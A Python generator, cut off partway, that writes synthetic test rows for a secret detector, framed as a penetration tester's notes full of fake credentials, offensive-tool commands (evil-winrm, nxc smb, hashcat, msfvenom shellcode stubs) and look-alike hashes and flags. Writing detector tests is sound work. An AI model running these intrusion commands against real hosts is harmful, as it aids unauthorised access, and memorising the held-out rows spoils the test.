# ruff: noqa: E501
"""Writes heldout53_credentials.yaml and heldout53_lookalikes.yaml: held-out batch 53.

Persona: a freelance penetration tester and CTF player in Melbourne who keeps terse
English notes. Her credentials are engagement material (client VPN profiles and
passwords, jump-host SSH keys, client test and admin accounts, cloud keys in scope, a
team-server password), her own tooling (Burp Suite Pro licence, Shodan, VirusTotal,
Hack The Box VPN and API tokens, redirector and bot tokens) and her private life (the
password-manager master password, her bank login and cards). Her look-alikes are the
daily noise of the job: password hashes being cracked (NTLM, bcrypt, sha512crypt,
NetNTLMv2, Kerberos), CTF flags already submitted, CVE and CWE ids, vendor default
credentials quoted as findings, public example JWTs and documentation keys, scanner
output, SIDs, GUIDs, certificate serials and thumbprints, YARA rules, hex dumps,
shellcode addresses and report ids.

The batch was written blind: its author never read the detector, its rules or its tests.
Every value is synthetic and drawn at run time from the `secrets` module; hosts sit under
`.example`, `.internal`, `.test` or acme. Public documentation examples (the AWS example
key, the jwt.io token, vendor defaults) are quoted verbatim because they are public.
"""

from __future__ import annotations

import base64
import secrets

from make_heldout import (
    ALNUM,
    B64,
    BASE32,
    DIGITS,
    LOWER,
    UPPER,
    URLSAFE,
    Rows,
    amex,
    app_password,
    aws_account,
    aws_key_id,
    aws_secret,
    b64,
    b64url,
    basic,
    card_expiry,
    digits,
    epoch,
    groups,
    hexs,
    jwt,
    luhn,
    mac,
    onepassword_secret_key,
    openssh_private,
    pem,
    phrase,
    pick,
    recovery_codes,
    rnd,
    ssh_pub,
    uid,
    wg_key,
    write_corpora,
)

CRYPT = "./" + DIGITS + UPPER + LOWER
WORDS = [
    "tram", "yarra", "magpie", "wattle", "possum", "kettle", "lantern", "copper", "fennel",
    "harbour", "gravel", "pelican", "thistle", "orbit", "cinder", "basalt", "quokka", "mango",
    "ember", "saddle", "willow", "marble", "pylon", "biscuit", "canoe", "falcon", "juniper",
    "meadow", "nutmeg", "obsidian", "pepper", "ripple", "sparrow", "tundra", "velvet", "zephyr",
]
CAPS = ["Fitzroy", "Brunswick", "Kookaburra", "Wombat", "Collingwood", "Carlton", "Southbank",
        "Flatwhite", "Magpie", "Footscray", "Richmond", "Spinifex", "Wattle", "Quokka", "Dandenong"]


def hpw() -> str:
    """A password a person made up."""
    word, other = secrets.choice(CAPS), secrets.choice(CAPS)
    leet = word.replace("o", "0").replace("a", "@").replace("e", "3")
    return pick(
        f"{word}{other}{secrets.randbelow(90) + 10}{pick('!', '#', '$', '?')}",
        f"{word}{pick('20', '19')}{secrets.randbelow(25) + 1:02d}{pick('!', '@', '*')}",
        f"{leet}#{digits(4)}",
        f"{word.lower()}.{secrets.choice(WORDS)}.{digits(3)}",
        f"{secrets.choice(WORDS).capitalize()}{pick('_', '-', '')}{secrets.choice(WORDS)}{digits(2)}{pick('!', '%', '&')}",
    )


def pgen() -> str:
    """A password a manager generated."""
    return pick(rnd(ALNUM + "!@#$%^&*-_", 20), rnd(ALNUM, 24), rnd(ALNUM + "-", 18))


def ip(net: str = "10.20") -> str:
    """An address in `net` (two or three octets given)."""
    tail = [str(secrets.randbelow(254) + 1) for _ in range(4 - len(net.split(".")))]
    return ".".join([net, *tail])


def crypt(n: int) -> str:
    return rnd(CRYPT, n)


def burp_licence() -> str:
    return b64(secrets.token_bytes(pick(420, 456, 492)))


def htb_token() -> str:
    t = epoch()
    claims = {"aud": "5", "jti": hexs(80), "iat": t, "nbf": t, "exp": t + 31536000,
              "sub": digits(7, True), "scopes": []}
    return jwt(claims, "RS256", rnd(URLSAFE, 342))


def azure_secret() -> str:
    return rnd(ALNUM, 3) + "8Q~" + rnd(ALNUM + "~._-", 34)


def tg_token() -> str:
    return f"{digits(10, True)}:AA{rnd(URLSAFE, 33)}"


def ngrok_token() -> str:
    return f"2{rnd(ALNUM, 26)}_{rnd(ALNUM, 21)}"


def sid(rid: int | None = None) -> str:
    parts = "-".join(str(secrets.randbelow(3_000_000_000) + 1_000_000_000) for _ in range(3))
    return f"S-1-5-21-{parts}-{rid if rid is not None else secrets.randbelow(9000) + 1100}"


def serial() -> str:
    return ":".join(secrets.token_hex(1) for _ in range(16))


def xxd(nbytes: int, start: int = 0) -> str:
    data = secrets.token_bytes(nbytes)
    out = []
    for off in range(0, nbytes, 16):
        chunk = data[off:off + 16]
        hx = " ".join(chunk[i:i + 2].hex() for i in range(0, len(chunk), 2))
        asc = "".join(chr(c) if 32 <= c < 127 else "." for c in chunk)
        out.append(f"{start + off:08x}: {hx:<39}  {asc}")
    return "\n".join(out)


def cbytes(n: int) -> str:
    return "".join(f"\\x{b:02x}" for b in secrets.token_bytes(n))


def netntlmv2(user: str, domain: str) -> str:
    return f"{user}::{domain}:{hexs(16)}:{hexs(32).upper()}:0101000000000000{hexs(pick(200, 232, 264))}"


def krb_tgs(user: str, spn: str) -> str:
    return f"$krb5tgs$23$*{user}$HARBOURLINE.INTERNAL${spn}*${hexs(32)}${hexs(pick(520, 584, 648))}"


def unhex_b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def htb_user_flag() -> str:
    return hexs(32)


def credentials() -> Rows:
    r = Rows()
    r.add("openvpn_auth",
          f"acme-health vpn, auth-user-pass file ~/eng/acme/creds.txt:\npt-contractor{secrets.randbelow(9) + 1}\n{hpw()}",
          f"client VPN (FortiClient) for Kestrel\ngw vpn.kestrel-finance.test:10443\nuser: ext.hughes\npass: {hpw()}",
          f"openvpn --config harbourline.ovpn, at the prompt: svc-pentest / {pgen()}")
    r.add("ovpn_inline_key",
          f"harbourline.ovpn from their portal, tail of it:\n<key>\n{pem('PRIVATE KEY', 4)}\n</key>",
          f"kestrel.ovpn\nremote vpn.kestrel-finance.test 1194 udp\n<key>\n{pem('EC PRIVATE KEY', 2)}\n</key>",
          f"inline key from the acme profile so I can rebuild it on the new laptop:\n{pem('RSA PRIVATE KEY', 5)}")
    r.add("wireguard",
          f"[Interface]\nPrivateKey = {wg_key()}\nAddress = 10.66.0.7/32\n\n[Peer]\nPublicKey = {wg_key()}\nEndpoint = wg.acme-health.example:51820\nAllowedIPs = 10.20.0.0/16",
          f"drop box (rpi in their comms cupboard) wg0 PrivateKey={wg_key()}",
          f"homelab wg, laptop peer priv {wg_key()}")
    r.add("jump_ssh_key",
          f"jump01.harbourline.internal, user pt:\n{openssh_private()}",
          f"~/.ssh/acme_jump  (destroy after eng ends)\n{openssh_private()}",
          f"bastion key the client emailed me in plain text (ugh):\n{pem('RSA PRIVATE KEY', 6)}")
    r.add("ssh_password",
          f"ssh pentest@{ip('203.0.113')} -p 2222   pw {hpw()}",
          f"jump box fallback if key auth breaks: root / {pgen()} (console only)",
          f"kali vm on their esxi - kali:{hpw()} (changed from default day 1)")
    r.add("client_test_account",
          f"Kestrel portal test users\nlow:  tester1@kestrel-finance.test / {hpw()}\nhigh: tester2@kestrel-finance.test / {hpw()}",
          f"https://uat.acme-health.example/login\npatient role: pt_patient_01  {hpw()}\nclinician role: pt_clin_01  {hpw()}",
          f"mobile UAT acct 04{digits(2)} {digits(3)} {digits(3)}, pin {digits(6)}, pw {hpw()}")
    r.add("client_admin_account",
          f"staging CMS admin (Raj gave it for the authz tests): admin_pt / {pgen()}",
          f"tenant admin for the test tenant: pt-admin@acme-health.example  pw {hpw()}",
          f"jenkins build.harbourline.internal:8080 -> ptadmin : {hpw()}")
    r.add("burp_licence",
          f"Burp Suite Pro licence (renewed March):\n{burp_licence()}",
          f"burp pro key for activating on the new laptop - {burp_licence()}",
          f"Burp licence, business seat, kat@katsec.example\n{burp_licence()}")
    r.add("shodan_key",
          f"shodan init {rnd(ALNUM, 32)}",
          f"SHODAN_API_KEY={rnd(ALNUM, 32)}   # membership acct",
          f"shodan api key (paid tier, don't burn query credits on recon scripts): {rnd(ALNUM, 32)}")
    r.add("virustotal_key",
          f"VT api key {hexs(64)}",
          f"vt init -> apikey {hexs(64)}",
          f"~/.vt.toml\napikey=\"{hexs(64)}\"\nformat=\"yaml\"")
    r.add("c2_teamserver",
          f"./teamserver 10.13.37.5 {pgen()} profiles/amazon.profile",
          f"TS for the red team op: c2.redops.internal:50050\nuser kat\npass {pgen()}",
          f"havoc profile:\nOperators {{\n  user \"kat\" {{\n    Password = \"{hpw()}\"\n  }}\n}}")
    r.add("htb_vpn",
          f"lab_kat.ovpn (HTB EU VIP) key block:\n<key>\n{pem('PRIVATE KEY', 4)}\n</key>",
          f"HTB prolabs Dante vpn key\n{pem('PRIVATE KEY', 5)}",
          f"htb release arena ovpn\n<key>\n{pem('PRIVATE KEY', 3)}\n</key>")
    r.add("htb_api_token",
          f"HTB app token (htb-cli): {htb_token()}",
          f"export HTB_TOKEN={htb_token()}",
          f"hackthebox api bearer for the team discord bot:\n{htb_token()}")
    r.add("pm_master",
          f"bitwarden master pw, in case of head injury: {phrase(WORDS, 5, '-')}",
          f"KeePassXC main db: {phrase(WORDS, 4, ' ')} {digits(2)}",
          f"1Password\nmaster: {hpw()}\nsecret key: {onepassword_secret_key()}")
    r.add("bank_login",
          f"NetBank client no {digits(8, True)}  pw {hpw()}",
          f"ING login: customer id {digits(8, True)}, access code {digits(6)}",
          f"business acct online banking kat.hughes.pt / {hpw()}\nsecurity q (first pet): {secrets.choice(WORDS)}{digits(2)}")
    r.add("bank_card",
          f"business visa {groups(luhn('4'), 4)} exp {card_expiry()} cvv {digits(3)}",
          f"debit mc {groups(luhn('52'), 4)} {card_expiry()} cvc {digits(3)} - HTB VIP renewal",
          f"amex {amex()} exp {card_expiry()} cid {digits(4)}")
    r.add("aws_client",
          f"Harbourline AWS test acct {aws_account()} (in scope)\naws_access_key_id = {aws_key_id()}\naws_secret_access_key = {aws_secret()}",
          f"[acme-audit]\naws_access_key_id={aws_key_id()}\naws_secret_access_key={aws_secret()}\nregion=ap-southeast-2",
          f"config.js in their public bucket, reported as F-03, still live friday:\n{aws_key_id()} {aws_secret()}")
    r.add("azure_sp",
          f"Kestrel app reg for graph testing\ntenant {uid()}\nclient id {uid()}\nclient secret {azure_secret()}",
          f"AZURE_CLIENT_SECRET={azure_secret()}",
          f"az login --service-principal -u {uid()} -p '{azure_secret()}' --tenant {uid()}")
    r.add("domain_creds",
          f"internal, assumed breach creds: ACME\\pt.user01 : {hpw()}",
          f"nxc smb 10.20.0.0/24 -u svc_pentest -p '{hpw()}' -d harbourline.internal",
          f"evil-winrm -i {ip()} -u ext-kat -p '{pgen()}'")
    r.add("cracked_password",
          f"cracked from NTDS: svc_backup -> {hpw()}  (DA!!)",
          f"kerberoast hit, MSSQLSvc/sql01 svc_sql = {hpw()}",
          f"potfile:\n{hexs(32)}:{hpw()}\n{hexs(32)}:{hpw()}")
    r.add("db_conn",
          f"DATABASE_URL=postgres://app_rw:{pgen()}@db01.acme-health.internal:5432/patients",
          f"mssql sa on {ip()} -> sa / {hpw()} (from web.config, works)",
          f"mongodb://admin:{rnd(ALNUM, 24)}@mongo.harbourline.internal:27017/?authSource=admin")
    r.add("client_api_key",
          f"x-api-key for partner API (UAT): {rnd(ALNUM, 40)}",
          f"curl -H 'X-Api-Key: {hexs(32)}' https://api.uat.kestrel-finance.test/v2/accounts",
          f"tenant 2 key for the IDOR test: kf_sk_{rnd(ALNUM, 40)}")
    r.add("github_pat",
          f"ghp_{rnd(ALNUM, 36)}  - PAT for the private tooling repo, repo scope",
          f"GITHUB_TOKEN=github_pat_{rnd(ALNUM, 22)}_{rnd(ALNUM, 59)}",
          f"git clone https://kat-pt:ghp_{rnd(ALNUM, 36)}@github.com/kat-pt/implants.git")
    r.add("found_secret",
          f"slack webhook in the android apk strings: https://hooks.slack.com/services/T{rnd(UPPER + DIGITS, 10)}/B{rnd(UPPER + DIGITS, 10)}/{rnd(ALNUM, 24)}",
          f"main.js had sk_live_{rnd(ALNUM, 99)} - validated against /v1/balance, critical",
          f"sendgrid key via exposed .git: SG.{rnd(URLSAFE, 22)}.{rnd(URLSAFE, 43)}")
    r.add("phish_smtp",
          f"gophish sending profile: smtp.mailgun.org:587\nuser postmaster@mg.acme-health-support.example\npass {hexs(32)}-{hexs(8)}-{hexs(8)}",
          f"phish O365 relay it-support@acme-helpdesk.example / {hpw()}",
          f"SES smtp creds for the campaign: {aws_key_id()} / B{rnd(B64, 43)}")
    r.add("phish_admin",
          f"gophish https://10.13.37.9:3333 admin / {hexs(16)} (initial pw from the log)",
          f"evilginx + gophish box, admin pw {pgen()}",
          f"gophish api key for the reporting script: {hexs(64)}")
    r.add("wifi_psk",
          f"onsite wifi, corp WPA2: SSID HL-Staff  psk {hpw()}",
          f"guest wifi for the onsite days: Acme-Guest / {secrets.choice(CAPS)}{digits(4)}",
          f"cracked the AH-IoT handshake: {hpw()}  -> goes in the report")
    r.add("vnc_password",
          f"vnc {ip()}:5900 (reception kiosk) pw {rnd(ALNUM, 8)}",
          f"x11vnc -storepasswd {hpw()} ~/.vnc/passwd on the drop box",
          f"tightvnc on the HMI, client-supplied pw {rnd(ALNUM, 8)}")
    r.add("mysql_root",
          f"mysql -h {ip()} -u root -p'{hpw()}'",
          f"MYSQL_ROOT_PASSWORD={pgen()}   # ctf box compose",
          f"phpmyadmin dev.acme-health.example/pma  root:{hpw()}")
    r.add("router_admin",
          f"home router admin pw (not the sticker one) {pgen()}",
          f"nbn modem login admin / {hpw()}",
          f"pfsense lab fw https://192.168.50.1 admin {hpw()}")
    r.add("email_account",
          f"mutt app password for kat@katsec.example: {app_password()}",
          f"fastmail app pw (thunderbird): {rnd(LOWER + DIGITS, 16)}",
          f"proton bridge pw for the mail client {rnd(URLSAFE, 22)}")
    r.add("totp_seed",
          f"TOTP seed for tester1 (client disabled enrolment for us): {rnd(BASE32, 32)}",
          f"otpauth://totp/Kestrel:tester2?secret={rnd(BASE32, 32)}&issuer=Kestrel",
          f"htb 2fa seed backup {groups(rnd(BASE32, 32), 4)}")
    r.add("recovery_codes",
          "github recovery codes\n" + recovery_codes(8, "github"),
          "HTB 2FA backup codes: " + recovery_codes(6, "digits"),
          "proton recovery codes\n" + recovery_codes(6, "alnum"))
    r.add("vps_token",
          f"DO token for the redirectors: dop_v1_{hexs(64)}",
          f"linode token {hexs(64)} (terraform for c2 infra)",
          f"VULTR_API_KEY={rnd(UPPER + DIGITS, 36)}")
    r.add("cloudflare_token",
          f"CF api token, dns edit on the phishing domains: {rnd(URLSAFE, 40)}",
          f"CLOUDFLARE_API_TOKEN={rnd(URLSAFE, 40)}",
          f"cf global api key {hexs(37)} (kat@katsec.example)")
    r.add("telegram_bot",
          f"notify bot, cracking rig done alerts: {tg_token()}",
          f"TELEGRAM_BOT_TOKEN={tg_token()}\nTELEGRAM_CHAT_ID=-100{digits(10, True)}",
          f"tg bot for shell callbacks - token {tg_token()}")
    r.add("discord_webhook",
          f"team discord webhook (first blood bot): https://discord.com/api/webhooks/{digits(19, True)}/{rnd(URLSAFE, 68)}",
          f"DISCORD_WEBHOOK=https://discord.com/api/webhooks/{digits(18, True)}/{rnd(URLSAFE, 68)}",
          f"team bot token {b64(digits(18, True).encode()).rstrip('=')}.{rnd(URLSAFE, 6)}.{rnd(URLSAFE, 38)}")
    r.add("ctfd_admin",
          f"CTFd admin token for the uni ctf: ctfd_{hexs(64)}",
          f"ctfd admin (MelbSec CTF infra) admin / {pgen()}",
          f".ctf/config\n[config]\nurl = https://ctf.melbsec.test\naccess_token = ctfd_{hexs(64)}")
    r.add("tunnel_token",
          f"ngrok config add-authtoken {ngrok_token()}",
          f"ngrok.yml\nversion: \"2\"\nauthtoken: {ngrok_token()}",
          f"interactsh-server -d oob.katsec.example -t {rnd(ALNUM, 32)}  (token for the client side)")
    r.add("jwt_secret",
          f"Kestrel API JWT signing secret (appsettings.json, lets me forge admin): {rnd(ALNUM, 48)}",
          f"hashcat -m 16500 got the HS256 secret: {hpw()}",
          f"JWT_SECRET={hexs(64)} from the leaked .env")
    r.add("session_cookie",
          f"tester2 admin session (8h): connect.sid=s%3A{rnd(URLSAFE, 32)}.{rnd(B64, 43)}",
          f"Cookie: ASP.NET_SessionId={rnd(LOWER + DIGITS, 24)}; .AspNetCore.Identity.Application=CfDJ8{rnd(URLSAFE, 300)}",
          f"token still valid after logout:\nBearer {jwt({'sub': 'tester1', 'role': 'admin', 'iat': epoch(), 'exp': epoch() + 86400})}")
    r.add("basic_auth",
          f"staging gate: Authorization: Basic {basic('staging', hpw())}",
          f"curl -u qa:{hpw()} https://staging.harbourline.test/",
          f"htpasswd on dev site: devuser / {pgen()}")
    r.add("bearer_token",
          f"Authorization: Bearer {rnd(ALNUM, 40)}   (UAT tester1, 30 day lifetime)",
          f"refresh_token={rnd(URLSAFE, 64)} mints new access tokens for tester1",
          f"their gitlab, read_repository for the code review part: glpat-{rnd(URLSAFE, 20)}")
    r.add("snmp_community",
          f"snmp rw community on the core switches (client-supplied): {rnd(ALNUM, 14)}",
          f"snmpwalk -v2c -c {hpw()} 10.20.0.1 1.3.6.1.2.1.1",
          f"snmpv3 user ptmon\nauth SHA {pgen()}\npriv AES {pgen()}")
    r.add("bmc_password",
          f"iDRAC esx01 (not default, thankfully): root / {pgen()}",
          f"ipmitool -I lanplus -H {ip()} -U ADMIN -P {pgen()} chassis status",
          f"iLO on the backup server: ext-kat {hpw()}")
    r.add("rdp_creds",
          f"xfreerdp /v:{ip()} /u:ext-kat /p:'{hpw()}' /d:HARBOURLINE",
          f"test VDI vdi.acme-health.example  user ptvdi01 pw {hpw()}",
          f"rdp jump for the OT segment: operator / {pgen()}")
    r.add("pfx_password",
          f"mTLS client cert kat-pt.pfx, import pw {pgen()}",
          f"openssl pkcs12 -in api-client.p12 -passin pass:{hpw()} -nodes",
          f"test code signing .pfx from the client pw {hpw()}")
    r.add("tls_private_key",
          f"mTLS client key (kestrel uat):\n{pem('EC PRIVATE KEY', 3)}",
          f"their wildcard key was in /var/www/backup, matches the live cert:\n{pem('PRIVATE KEY', 5)}",
          f"redirector LE key\n{pem('PRIVATE KEY', 4)}")
    r.add("vault_password",
          f"engagement kdbx acme_q3.kdbx pw: {phrase(WORDS, 4, '-')}{digits(2)}",
          f"shared kdbx: keyfile ~/eng/acme.key + pw {hpw()}",
          f"veracrypt container for client data: {phrase(WORDS, 6, ' ')}")
    r.add("passphrase",
          f"gpg passphrase (report signing key): {phrase(WORDS, 5, ' ')}",
          f"ansible-vault pw for the c2 infra playbooks: {pgen()}",
          f"passphrase on acme_jump key: {hpw()}")
    return r


def lookalikes() -> Rows:
    r = Rows()
    empty_lm = "aad3b435b51404eeaad3b435b51404ee"
    r.add("ntlm_hash",
          f"secretsdump, still cracking these two:\nHARBOURLINE\\svc_backup:1104:{empty_lm}:{hexs(32)}:::\nHARBOURLINE\\j.nguyen:1131:{empty_lm}:{hexs(32)}:::",
          f"hashcat -m 1000 ntlm.txt rockyou.txt -r OneRuleToRuleThemAll.rule\nleft after 4h: {hexs(32)} {hexs(32)} {hexs(32)}",
          "Guest NT hash 31d6cfe0d16ae931b73c59d7e0c089c0 = blank password, account disabled anyway")
    r.add("bcrypt_hash",
          f"users table, bcrypt cost 10, 0/2 cracked after 6h:\n$2y$10${crypt(53)}\n$2y$10${crypt(53)}",
          f"hashcat -m 3200 '$2b$12${crypt(53)}' - 38 H/s, not worth it",
          f"finding: cost 4 on admin hash $2a$04${crypt(53)} (CWE-916)")
    r.add("unix_crypt",
          f"/etc/shadow from the backup tarball:\nroot:$6${crypt(16)}${crypt(86)}:19700:0:99999:7:::\nsvc_mon:!:19700::::::",
          f"john --format=sha512crypt shadow.txt, 1 left: $6$rounds=5000${crypt(16)}${crypt(86)}",
          f"old appliance still md5crypt: admin:$1${crypt(8)}${crypt(22)}")
    r.add("netntlmv2",
          f"responder caught (not cracked yet):\n{netntlmv2('j.nguyen', 'HARBOURLINE')}",
          f"NetNTLMv2 from the printer coercion, -m 5600 queued:\n{netntlmv2('PRN01$', 'ACME')}",
          f"{netntlmv2('svc_scan', 'KESTREL')}\nexhausted rockyou + rules, moving on")
    r.add("kerberos_hash",
          f"GetUserSPNs output, queued:\n{krb_tgs('svc_sql', 'MSSQLSvc/sql01.harbourline.internal:1433')}",
          f"asrep roast, no preauth on t.brooks:\n$krb5asrep$23$t.brooks@HARBOURLINE.INTERNAL:{hexs(32)}${hexs(312)}",
          f"aes tgs, skipping (-m 19700 too slow):\n$krb5tgs$18$svc_web$HARBOURLINE.INTERNAL$*HTTP/intranet*${hexs(24)}${hexs(400)}")
    r.add("hashcat_status",
          f"Session..........: hashcat\nStatus...........: Running\nHash.Mode........: 1000 (NTLM)\nHash.Target......: ntds.ntlm\nSpeed.#1.........: {secrets.randbelow(90) + 10}.{digits(1)} GH/s\nRecovered........: {secrets.randbelow(300)}/{secrets.randbelow(400) + 400} ({secrets.randbelow(60)}.{digits(2)}%) Digests",
          f"Hash.Mode........: 13100 (Kerberos 5, etype 23, TGS-REP)\nProgress.........: {secrets.randbelow(14000000) + 300000}/14344385 ({secrets.randbelow(99)}.{digits(2)}%)\nRestore.Point....: {digits(7, True)}",
          f"Status: Exhausted. Hash.Target: $2y$10${crypt(20)}... Candidates.#1: {pick('123456', 'princess', 'rockyou')} -> {pick('vanessa1', 'chelsea', 'jordan23')}")
    r.add("crack_mask",
          "hashcat -a 3 -m 1000 ntlm.txt ?u?l?l?l?l?l?d?d?s --increment",
          "-m 1000 NTLM, -m 5600 NetNTLMv2, -m 13100 TGS-REP, -m 18200 AS-REP, -m 3200 bcrypt, -m 1800 sha512crypt",
          f"custom charset -1 ?l?d -2 ?u?s, mask ?2?1?1?1?1?1?d?d, keyspace {digits(12, True)}")
    r.add("ctf_flag",
          f"submitted, 350 pts: flag{{{rnd(LOWER + DIGITS + '_', 24)}}}",
          f"DUCTF web chall done - DUCTF{{{phrase(WORDS, 3, '_')}_{hexs(8)}}}",
          f"pico: picoCTF{{{rnd(LOWER + DIGITS, 6)}_{rnd(LOWER + DIGITS, 8)}_{hexs(8)}}} (already solved, writeup pending)")
    r.add("htb_flag",
          f"HTB{{{rnd(LOWER + DIGITS + '_', 28)}}} - challenge owned, 40 pts",
          f"box pwned\nuser.txt {htb_user_flag()}\nroot.txt {htb_user_flag()}\nboth submitted",
          f"sherlock answer submitted: HTB{{{phrase(WORDS, 4, '_')}}}")
    r.add("cve_ids",
          f"vuln scan highlights: CVE-2023-{digits(5, True)}, CVE-2024-{digits(4, True)}, CVE-2021-44228 (log4shell, confirmed)",
          f"F-0{secrets.randbelow(9) + 1}: outdated Confluence, CVE-2023-22515 + CVE-2023-{digits(5, True)}",
          f"kev list matches: CVE-2024-3400, CVE-2023-4966 (citrix bleed), CVE-2022-{digits(5, True)}")
    r.add("cwe_ids",
          "findings map: IDOR CWE-639, SQLi CWE-89, stored XSS CWE-79, CSRF CWE-352",
          "CWE-798 hard-coded creds (the APK), CWE-321 hard-coded crypto key, CWE-522",
          f"report tag F-{digits(2)} -> CWE-{secrets.randbelow(1300) + 20}, CVSS 3.1 AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N")
    r.add("default_creds_finding",
          f"F-0{secrets.randbelow(9) + 1}: {ip()} (camera) still accepted the documented default admin/admin",
          "grafana on :3000 still admin/admin per their docs, forced-change prompt skipped. medium",
          "iDRAC on esx02 accepted root/calvin (Dell's documented default). high")
    r.add("vendor_default_doc",
          "Tomcat manager: sample tomcat-users.xml has tomcat/s3cret, which is what they deployed",
          "RabbitMQ guest/guest works only from localhost by default; theirs had loopback_users removed",
          "Ubiquiti docs list ubnt/ubnt as factory default; all 14 APs had been changed, good")
    none_hdr = b64url({"alg": "none", "typ": "JWT"})
    r.add("jwt_none",
          f"alg none accepted (F-02): {none_hdr}.{b64url({'sub': 'tester1', 'role': 'admin'})}.",
          f"tried {b64url({'alg': 'None', 'typ': 'JWT'})}.{b64url({'user': 'admin', 'iat': epoch()})}. -> 200 OK. case-variant bypass",
          f"unsigned token they issue to guests: {none_hdr}.{b64url({'guest': True, 'sid': hexs(16)})}.")
    r.add("jwt_public_example",
          "the jwt.io sample eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c validated on their API. lol",
          "RFC 7515 A.1 example: eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
          f"header/payload only, sig stripped for the report: {b64url({'alg': 'RS256', 'kid': hexs(8)})}.{b64url({'sub': 'tester1', 'exp': epoch()})}.<redacted>")
    r.add("doc_sample_key",
          "AWS docs example pair AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY in their README, not real",
          "their integration guide copies Stripe's docs test key sk_test_4eC39HqLyjWDarjtT1zdp7dc",
          "placeholder in the SDK sample: xoxb-not-a-real-token-this-will-not-work")
    r.add("nmap_output",
          f"nmap -sCV -p- {ip()}\n22/tcp   open  ssh      OpenSSH 8.9p1 Ubuntu\n80/tcp   open  http     nginx 1.18.0\n443/tcp  open  ssl/http nginx\n8443/tcp open  https-alt\n| ssl-cert: Subject: commonName=portal.kestrel-finance.test",
          f"Nmap scan report for dc01.harbourline.internal ({ip()})\n53/tcp open domain\n88/tcp open kerberos-sec\n389/tcp open ldap\n445/tcp open microsoft-ds\n3268/tcp open globalcatLDAP\nService Info: Host: DC01; OS: Windows",
          f"masscan 10.20.0.0/16 -p1-65535 --rate 5000: {secrets.randbelow(900) + 100} hosts up, {secrets.randbelow(4000) + 1000} open ports")
    r.add("gobuster_output",
          f"gobuster dir -u https://uat.acme-health.example -w raft-medium-words.txt\n/admin   (Status: 302) [Size: {secrets.randbelow(900)}] [--> /login]\n/api     (Status: 401) [Size: {secrets.randbelow(200)}]\n/backup  (Status: 403) [Size: 162]\n/.git/HEAD (Status: 200) [Size: 23]",
          f"vhost: dev.harbourline.test Status: 200 [Size: {digits(5, True)}]\nvhost: jenkins.harbourline.test Status: 403 [Size: 548]",
          f"feroxbuster: 200 GET {secrets.randbelow(200)}l {secrets.randbelow(900)}w {digits(5, True)}c https://uat.acme-health.example/swagger/v1/swagger.json")
    r.add("ffuf_output",
          f"ffuf -w ids.txt -u https://api.uat.kestrel-finance.test/v2/accounts/FUZZ\n{digits(6, True)}  [Status: 200, Size: {digits(4, True)}, Words: {digits(3, True)}, Lines: 1]\n{digits(6, True)}  [Status: 200, Size: {digits(4, True)}, Words: {digits(3, True)}, Lines: 1]",
          f"param fuzz hit: debug [Status: 500, Size: {digits(5, True)}, Words: {digits(4, True)}, Duration: {secrets.randbelow(900)}ms]",
          f":: Progress: [{secrets.randbelow(20000) + 1000}/{secrets.randbelow(40000) + 30000}] :: Job [1/1] :: {secrets.randbelow(900)} req/sec :: Errors: 0 ::")
    r.add("ad_sid",
          f"domain SID {sid(512)[:-4]}\nDomain Admins -512, svc_backup RID 1104",
          f"golden-ticket-ish path not needed; Enterprise Admins = {sid(519)}",
          f"GPO grants SeBackupPrivilege to {sid()} (orphaned, resolves to nothing)")
    r.add("ad_guid",
          f"objectGUID of the vulnerable template ESC1 'UserAuthCert': {uid()}",
          f"WriteDACL on OU=Servers (objectGUID {{{uid()}}}) for helpdesk group",
          f"GPO {{{uid().upper()}}} pushes the local admin; SYSVOL path \\\\harbourline.internal\\SYSVOL\\harbourline.internal\\Policies\\{{{uid().upper()}}}")
    r.add("cert_serial",
          f"ESC8 cert issued to DC01$, serial {serial()}",
          f"expired cert on :8443, Serial Number: {hexs(32).upper()}, NotAfter 2023-11-02",
          f"revoked after the test: serial 0x{hexs(38)} (CRL updated)")
    r.add("cert_thumbprint",
          f"RDP cert thumbprint {hexs(40).upper()} self-signed on all 40 hosts",
          f"Thumbprint: {groups(hexs(40).upper(), 2, ':')}",
          f"cert pinning check: sha256/{b64(secrets.token_bytes(32))} pinned in the app, bypassed with frida")
    r.add("yara_rule",
          f"rule APT_Loader_{rnd(UPPER + DIGITS, 6)} {{\n  strings:\n    $a = {{ {' '.join(secrets.token_hex(1) for _ in range(12))} }}\n    $b = \"{rnd(ALNUM, 16)}\" ascii\n  condition: uint16(0) == 0x5A4D and all of them\n}}",
          f"yara hits on the share: HKTL_Mimikatz_{digits(4, True)}, SUSP_PS1_Obfusc_{hexs(4)}",
          f"rule CTF_Stage2_{hexs(6)} {{ strings: $key = {{ {' '.join(secrets.token_hex(1) for _ in range(16))} }} condition: $key }}")
    base = secrets.randbelow(4096) * 16
    r.add("hexdump",
          f"xxd firmware.bin | head\n{xxd(48)}",
          f"EEPROM dump from the badge reader at 0x{base:04x}:\n{xxd(32, base)}",
          f"packet 17 payload:\n{xxd(32)}")
    r.add("shellcode",
          f"msfvenom -p windows/x64/exec CMD=calc.exe -f c -b '\\x00'\nunsigned char buf[] =\n\"{cbytes(16)}\"\n\"{cbytes(16)}\";",
          f"EIP overwritten at offset {secrets.randbelow(3000) + 200}, value 0x{hexs(8)}; pop pop ret at 0x{hexs(8)} (no ASLR)",
          f"ROP: 0x00007ff{hexs(9)} pop rdi; ret / 0x00007ff{hexs(9)} system  (libc base 0x7ff{hexs(5)}000)")
    r.add("report_id",
          f"report KSEC-{pick('2024', '2025')}-{digits(4)} v1.{secrets.randbelow(5)} delivered, retest ticket KSEC-RT-{digits(3)}",
          f"Harbourline PO {digits(8, True)}, SOW ref HL-SOW-{digits(4)}-{rnd(UPPER, 3)}",
